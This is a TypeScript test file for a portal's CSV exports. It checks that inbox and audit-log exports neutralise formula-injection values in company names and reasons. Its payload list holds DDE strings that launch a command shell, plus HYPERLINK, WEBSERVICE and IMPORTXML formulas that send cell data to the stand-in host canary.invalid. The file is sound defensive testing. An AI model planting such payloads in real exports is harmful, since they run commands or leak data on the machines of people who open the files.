import { afterEach, beforeEach, expect, test, vi } from "vitest";
import { recordChange } from "~/domain/audit/record-change.server";
import * as audit from "~/routes/audit/export";
import * as inbox from "~/routes/staff/inbox-export";
import { companies } from "~db/schema";
import { readRoutes } from "~tests/support/crawl";
import { useTestDatabase } from "~tests/support/database";
import { aStaffMember } from "~tests/support/people";
import { setPortalEnv } from "~tests/support/portal-env";
import { aCast, aRequest, later, tuesday } from "~tests/support/requests";
import { aSignedInVisitor } from "~tests/support/route-visitor";

const { db } = useTestDatabase();
const now = later(tuesday, { hours: 1 });
beforeEach(() => {
  setPortalEnv();
  vi.useFakeTimers({ toFake: ["Date"], now });
});
afterEach(() => void vi.useRealTimers());

/** What a spreadsheet would carry out, in the ways people found to say it. */
const formulas = [
  "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://canary.invalid?\"&A1,\"点击\")", "=WEBSERVICE(\"http://canary.invalid\")", "=IMPORTXML(\"http://canary.invalid\",\"//a\")",
  "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1", " =1+1", "\u3000+1+1", "\u200b=1+1", "\n=1+1", "两行\n=1+1", "＝1＋1", "＋1", "－1＋1", "＠SUM(1)", "=\"\"&1", "\"=1+1", "=1+1\";=2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(1,1)*苏州",
];
/** LibreOffice takes a formula behind a space, too. */
const isLive = (cell: string) => /^(\t|\r|[\s\p{Cf}]*[=+\-@＝＋－＠])/u.test(cell);

/** RFC 4180, read back as a spreadsheet reads it. */
function cellsOf(table: string): string[] {
  return [...table.replace(/^\ufeff/, "").matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain = ""]) => quoted?.replaceAll('""', '"') ?? plain);
}

test("two dozen formulas as names come back out of the list of requests as text, still readable", async () => {
  const cast = await aCast(db);
  await aRequest(db, cast, "routed");
  const liaison = await aSignedInVisitor({ userId: cast.liaison.userId, kind: "staff" });
  for (const name of formulas) {
    await db.update(companies).set({ name });
    const cells = cellsOf(await (await liaison.get(inbox.loader, "/inbox/export.csv")).text());
    expect(cells.filter(isLive)).toEqual([]);
    expect(cells).toContain(isLive(name) ? `'${name}` : name);
  }
});

test("and out of the audit log, as names and as reasons", async () => {
  const auditor = await aStaffMember(db, "auditor");
  for (const name of formulas) await recordChange(db, auditor, { action: "queue.settings", object: { kind: "station", id: "SZZX", name }, reason: name, now });
  const visitor = await aSignedInVisitor({ userId: auditor.userId, kind: "staff" });
  const cells = cellsOf(await (await visitor.get(audit.loader, "/audit/export.csv?action=queue.settings")).text());

  expect(cells.filter(isLive)).toEqual([]);
  expect(formulas.filter((name) => cells.filter((cell) => cell.replace(/^'/, "") === name).length < 2)).toEqual([]);
});

test("no other address gives a table away", async () => {
  expect((await readRoutes()).map(({ path }) => path).filter((path) => /\.(csv|xlsx|tsv|ods)$/.test(path))).toEqual(["/audit/export.csv", "/inbox/export.csv"]);
});
